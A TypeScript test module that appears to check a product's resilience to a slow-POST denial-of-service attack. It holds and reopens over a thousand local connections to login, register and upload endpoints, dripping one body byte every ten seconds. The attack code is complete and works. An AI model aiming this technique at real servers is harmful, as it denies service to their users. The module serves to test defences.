import { connect, type Socket } from "node:net";
import { setTimeout } from "node:timers/promises";

/** More than the product runs at once, all from one address; and as many again from twenty. */
const FROM_ONE = 600;
const OTHERS = 20;
const FROM_EACH_OTHER = 30;
const BYTE_EVERY_MS = 10_000;
/** A closed one is opened again, but not at once: the attacker's own machine is not the aim. */
const AGAIN_MS = 500;
const PATHS = ["/logout", "/login", "/register", "/common/upload"];

/** Hold connections whose bodies come a byte every ten seconds, open them again whenever they are closed. */
export async function crawl(port: number, endMs: number): Promise<string> {
  const open = new Set<Socket>();
  const told = { opened: 0, ended: 0 };
  const addresses = [
    ...Array.from({ length: FROM_ONE }, () => "127.66.0.1"),
    ...Array.from({ length: OTHERS * FROM_EACH_OTHER }, (_, index) => `127.66.1.${1 + (index % OTHERS)}`),
  ];
  const drip = setInterval(() => {
    for (const socket of open) socket.write(" ");
  }, BYTE_EVERY_MS);
  await Promise.all(
    addresses.map(async (localAddress, index) => {
      while (performance.now() < endMs) {
        told.opened += 1;
        await oneSocket(port, localAddress, PATHS[index % PATHS.length] ?? "", open, endMs);
        told.ended += 1;
        await setTimeout(AGAIN_MS);
      }
    }),
  );
  clearInterval(drip);
  return `${told.opened} connections opened, ${told.ended} ended by the product or the end`;
}

/** Resolves when the connection is closed, by whomever. */
function oneSocket(port: number, localAddress: string, path: string, open: Set<Socket>, endMs: number): Promise<void> {
  return new Promise((resolve) => {
    const type = path === "/common/upload" ? "multipart/form-data; boundary=x" : "application/json";
    const head = `POST /prod-api${path} HTTP/1.1\r\nHost: x\r\nContent-Type: ${type}\r\nContent-Length: 1000\r\n\r\n{`;
    const socket = connect({ port, host: "127.0.0.1", localAddress }, () => socket.write(head));
    open.add(socket);
    const timer = globalThis.setTimeout(() => socket.destroy(), Math.max(0, endMs - performance.now()));
    socket.on("data", () => {});
    socket.on("error", () => {});
    socket.on("end", () => socket.destroy());
    socket.on("close", () => {
      clearTimeout(timer);
      open.delete(socket);
      resolve();
    });
  });
}
